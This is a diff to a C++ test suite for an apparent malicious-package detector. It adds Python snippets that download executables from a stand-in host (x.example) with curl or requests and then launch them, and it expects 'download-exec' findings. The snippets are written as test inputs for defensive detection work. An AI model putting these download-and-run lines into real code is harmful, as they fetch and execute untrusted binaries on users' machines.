@@ -332,6 +332,12 @@ TEST(Behaviour, DownloadingCommandsAndPythonLaunchedAtImport) {
   ExpectFinding("import subprocess\nsubprocess.Popen('curl http://x.example/a.exe -o a.exe', shell=True)\n"
                 "subprocess.Popen(['C:/a.exe'])\n",
                 "download-exec", Severity::kHigh);
+  ExpectFinding("import os\nos.system('curl.exe -OLJ https://x.example/m.exe')\nos.system('m.exe -w 1')\n",
+                "download-exec", Severity::kHigh, Phase::kRuntime);
+  ExpectFinding("import os, requests\ndef f():\n    r = requests.get('https://x.example/s.exe')\n"
+                "    open(f'C://K//s.exe', 'wb').write(r.content)\n"
+                "    os.system('start cmd.exe /c start C://K//s.exe')\n",
+                "download-exec", Severity::kHigh, Phase::kRuntime);
   ExpectFinding("import subprocess\nsubprocess.Popen(['python3', '-c', 'import other'])\n",
                 "process-at-import", Severity::kHigh);
   ExpectFinding("import subprocess, sys\nsubprocess.Popen([sys.executable, 'x.py'])\n",
